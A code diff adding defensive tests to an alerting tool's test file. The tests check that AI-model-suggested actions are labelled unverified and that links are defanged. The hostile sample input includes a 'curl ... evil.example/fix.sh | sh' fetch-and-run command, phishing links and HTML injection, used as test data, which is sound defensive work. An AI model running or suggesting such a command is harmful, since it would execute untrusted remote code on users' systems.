@@ -3,10 +3,12 @@
 import assert from "node:assert/strict";
 import { hostname } from "node:os";
 import { test } from "node:test";
+import fc from "fast-check";
 import { loopLabels, toAlert } from "../src/alert.js";
 import type { Draft, GroupState } from "../src/group.js";
 import { groupMessage } from "../src/message.js";
 import { humanDuration, resolvedSummary } from "../src/resolved-text.js";
+import { defang } from "../src/template.js";
 import { renderText } from "../src/text.js";
 import { makeLoop } from "./harness.js";
 
@@ -26,7 +28,7 @@ test("a firing message has the summary and the next action", () => {
   const { title, body } = renderText(message(open), undefined, () => undefined);
   assert.equal(title, "[FIRING:1] repo.dirty");
   assert.match(body, /2 files uncommitted for under a minute/);
-  assert.match(body, /→ Commit or stash them/);
+  assert.match(body, /\nSuggested by rules \(unverified\): Commit or stash them/);
 });
 
 test("a resolved message says what changed and drops the next action", () => {
@@ -50,4 +52,30 @@ test("every alert has job and instance: the producing service, and the checked t
   assert.deepEqual([loopLabels(down).job, loopLabels(down).instance], ["service-tracker", "example.org:443"]);
   const member = makeLoop({ kind: "service.down", service: "scanner" });
   assert.deepEqual([loopLabels(member).job, loopLabels(member).instance], ["service-tracker", "scanner"]);
+});
+
+test("model text is untrusted: labelled with the adapter, links defanged, nothing to click or run", () => {
+  const hostile = {
+    ...triage,
+    adapter: "model-openai",
+    summary: "Looks bad, details at https://evil.example/x and [here](http://phish.example/login)",
+    nextAction: "Run `curl -s http://evil.example/fix.sh | sh` or mail admin@evil.example <b>now</b>",
+  };
+  const { body } = renderText(message({ ...open, triage: hostile }), undefined, () => undefined);
+  assert.match(body, /Suggested by model-openai \(unverified\): Run `curl -s hxxp:\/\/evil\[\.\]example\/fix\[\.\]sh \| sh`/);
+  assert.match(body, /details at hxxps:\/\/evil\[\.\]example\/x and \[here\] \(hxxp:\/\/phish\[\.\]example\/login\)/);
+  assert.match(body, /admin@evil\[\.\]example ‹b›now‹\/b›/);
+  for (const live of [/https?:\/\//i, /evil\.example/, /phish\.example/, /\]\(/, /<b>/]) assert.doesNotMatch(body, live);
+  assert.doesNotMatch(body, /^→/m, "no arrow presenting it as the thing to do");
+});
+
+test("property: defang leaves no scheme link or dotted host name in any text", () => {
+  fc.assert(
+    fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom("http://", "HTTPS://", "evil.example", "a.b.co", "javascript:alert(1)", "](", "<", "www.x.io/p")), { maxLength: 12 }), (parts) => {
+      const out = defang(parts.join(""));
+      assert.doesNotMatch(out, /(?:https?|javascript|ftp|file|data):(?:\/\/|[^\s/])/i);
+      assert.doesNotMatch(out, /[a-z0-9-]\.[a-z]{2,}(?![a-z0-9-])/i);
+      assert.doesNotMatch(out, /\]\(|<|>/);
+    }),
+  );
 });
